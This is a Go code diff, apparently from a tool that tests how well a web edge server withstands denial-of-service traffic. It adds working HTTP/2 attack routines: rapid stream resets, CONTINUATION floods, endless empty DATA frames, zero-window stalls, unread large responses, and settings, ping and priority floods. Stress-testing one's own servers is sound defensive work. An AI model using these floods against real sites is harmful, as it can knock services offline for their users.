@@ -1,9 +1,11 @@
 package main
 
 import (
+	"bufio"
 	"bytes"
 	"context"
 	"crypto/tls"
+	"errors"
 	"io"
 	"net"
 	"strings"
@@ -16,8 +18,9 @@ import (
 
 // attack is what one client address does.
 type attack struct {
-	run                   func(ctx context.Context, at string, secure bool)
-	plainOnly, secureOnly bool
+	run        func(ctx context.Context, at string, secure bool)
+	secureOnly bool
+	strict     bool // it floods with what costs the edge no memory: no request of a visitor may fail
 }
 
 const (
@@ -38,9 +41,15 @@ var attacks = map[string]attack{
 	"pipelines":          {run: floods(strings.Repeat("GET /other HTTP/1.1\r\nHost: "+host+"\r\n\r\n", 100))},
 	"short connections":  {run: floods("")},
 	"half handshakes":    {run: holdsBare("\x16\x03\x01\x02\x00"), secureOnly: true},
-	"zero windows":       {run: overHTTP2(zeroWindows), secureOnly: true},
-	"reset streams":      {run: overHTTP2(resets), secureOnly: true},
-	"settings and pings": {run: overHTTP2(settings), secureOnly: true},
+
+	"HTTP/2 settings and pings":            overHTTP2(settings, 500),
+	"HTTP/2 priorities and window updates": overHTTP2(priorities, 500),
+	"HTTP/2 empty data":                    overHTTP2(emptyData, 1000),
+	"HTTP/2 continuations":                 overHTTP2(continuations, 1000),
+	"HTTP/2 resets at once":                overHTTP2(resets, 1),
+	"HTTP/2 resets while the site works":   overHTTP2(lateResets, 1),
+	"HTTP/2 zero windows":                  overHTTP2(zeroWindows, 1),
+	"HTTP/2 unread answers":                overHTTP2(unread, 1),
 }
 
 func post(framing string) string {
@@ -124,9 +133,10 @@ func floods(text string) func(context.Context, string, bool) {
 	}
 }
 
-// overHTTP2 opens connections over HTTP/2, and calls send on each until it fails.
-func overHTTP2(send func(f *http2.Framer, stream uint32) error) func(context.Context, string, bool) {
-	return func(ctx context.Context, at string, _ bool) {
+// overHTTP2 opens connections over HTTP/2 with windows of 0. On each it sends what so many calls of send write, until
+// it fails; each call has the first of its own streams.
+func overHTTP2(send func(f *http2.Framer, stream uint32) error, calls int) attack {
+	return attack{secureOnly: true, strict: true, run: func(ctx context.Context, at string, _ bool) {
 		each(ctx, func(int) {
 			c, err := dial(at, true, "h2")
 			if err != nil {
@@ -134,55 +144,40 @@ func overHTTP2(send func(f *http2.Framer, stream uint32) error) func(context.Con
 				return
 			}
 			defer c.Close()
-			f := http2.NewFramer(c, c)
-			if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
-				return
-			}
-			if f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}) != nil {
-				return
-			}
-			for stream := uint32(1); ctx.Err() == nil; stream += 100 {
-				if c.SetDeadline(time.Now().Add(5*time.Second)) != nil || send(f, stream) != nil {
-					return
+			out := bufio.NewWriterSize(c, 16<<10)    // keeps its first error
+			io.WriteString(out, http2.ClientPreface) //nolint:errcheck // as above
+			f := http2.NewFramer(out, nil)
+			err = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+			for stream := uint32(1); err == nil && ctx.Err() == nil; {
+				err = c.SetDeadline(time.Now().Add(5 * time.Second))
+				for range calls {
+					err = errors.Join(err, send(f, stream))
+					stream += 2 * streams
 				}
+				err = errors.Join(err, out.Flush())
 			}
 		})
-	}
+	}}
 }
 
-func head(path string) []byte {
+// streams are those of one call, from a number on.
+const streams = 50
+
+// ask begins requests for a path.
+func ask(f *http2.Framer, stream uint32, method, path string) error {
 	var b bytes.Buffer
 	e := hpack.NewEncoder(&b)
-	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", path}} {
-		e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) //nolint:errcheck // memory
-	}
-	return b.Bytes()
-}
-
-func ask(f *http2.Framer, stream uint32, path string) error {
-	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head(path), EndStream: true, EndHeaders: true})
-}
-
-// zeroWindows asks for long answers and takes none of them.
-func zeroWindows(f *http2.Framer, stream uint32) error {
-	if stream > 100 {
-		<-time.After(time.Second)
-		return f.WritePing(false, [8]byte{})
-	}
-	for i := range uint32(50) {
-		if err := ask(f, stream+2*i, "/large"); err != nil {
+	for _, h := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", host}, {":path", path}} {
+		if err := e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
 			return err
 		}
 	}
-	return nil
+	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: b.Bytes(), EndStream: method == "GET", EndHeaders: true})
 }
 
-func resets(f *http2.Framer, stream uint32) error {
-	for i := range uint32(50) {
-		if err := ask(f, stream+2*i, "/other"); err != nil {
-			return err
-		}
-		if err := f.WriteRSTStream(stream+2*i, http2.ErrCodeCancel); err != nil {
+func askAll(f *http2.Framer, stream uint32, path string) error {
+	for i := range uint32(streams) {
+		if err := ask(f, stream+2*i, "GET", path); err != nil {
 			return err
 		}
 	}
@@ -190,13 +185,63 @@ func resets(f *http2.Framer, stream uint32) error {
 }
 
 func settings(f *http2.Framer, _ uint32) error {
-	for range 100 {
-		if err := f.WriteSettings(); err != nil {
-			return err
-		}
-		if err := f.WritePing(false, [8]byte{}); err != nil {
+	return errors.Join(f.WriteSettings(), f.WritePing(false, [8]byte{}))
+}
+
+func priorities(f *http2.Framer, stream uint32) error {
+	return errors.Join(f.WritePriority(stream, http2.PriorityParam{Weight: 1}), f.WriteWindowUpdate(0, 1))
+}
+
+// emptyData is the body of one form, which never ends.
+func emptyData(f *http2.Framer, stream uint32) error {
+	if stream == 1 {
+		return ask(f, 1, "POST", "/other")
+	}
+	return f.WriteData(1, false, nil)
+}
+
+func resets(f *http2.Framer, stream uint32) error {
+	for i := range uint32(streams) {
+		if err := errors.Join(ask(f, stream+2*i, "GET", "/other"), f.WriteRSTStream(stream+2*i, http2.ErrCodeCancel)); err != nil {
 			return err
 		}
 	}
 	return nil
+}
+
+// lateResets leaves requests when the site has them.
+func lateResets(f *http2.Framer, stream uint32) (err error) {
+	if stream > 1 {
+		<-time.After(10 * time.Millisecond)
+		for i := range uint32(streams) {
+			err = errors.Join(err, f.WriteRSTStream(stream-2*(i+1), http2.ErrCodeCancel))
+		}
+	}
+	return errors.Join(err, askAll(f, stream, "/slow"))
+}
+
+// zeroWindows asks for long answers and allows none of them.
+func zeroWindows(f *http2.Framer, stream uint32) error {
+	if stream > 1 {
+		<-time.After(time.Second)
+		return f.WritePing(false, [8]byte{})
+	}
+	return askAll(f, stream, "/large")
+}
+
+// unread asks for long answers, allows them and reads none.
+func unread(f *http2.Framer, stream uint32) error {
+	if stream > 1 {
+		return zeroWindows(f, stream)
+	}
+	const all = 1<<31 - 1
+	return errors.Join(f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: all}), f.WriteWindowUpdate(0, all-65535), askAll(f, stream, "/large"))
+}
+
+// continuations is one head that never ends.
+func continuations(f *http2.Framer, stream uint32) error {
+	if stream == 1 {
+		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
+	}
+	return f.WriteContinuation(1, false, nil)
 }
